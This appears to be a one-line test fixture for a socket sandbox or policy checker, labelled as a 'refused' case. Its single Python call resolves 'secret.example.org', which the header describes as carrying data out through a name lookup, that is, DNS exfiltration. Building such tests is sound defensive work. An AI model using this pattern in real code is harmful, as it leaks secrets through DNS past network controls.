# class: sockets
# attack: carries data out in a look-up of names
# task: 00_mini/scale-density
# form: refused

socket.getaddrinfo('secret.example.org', 80)
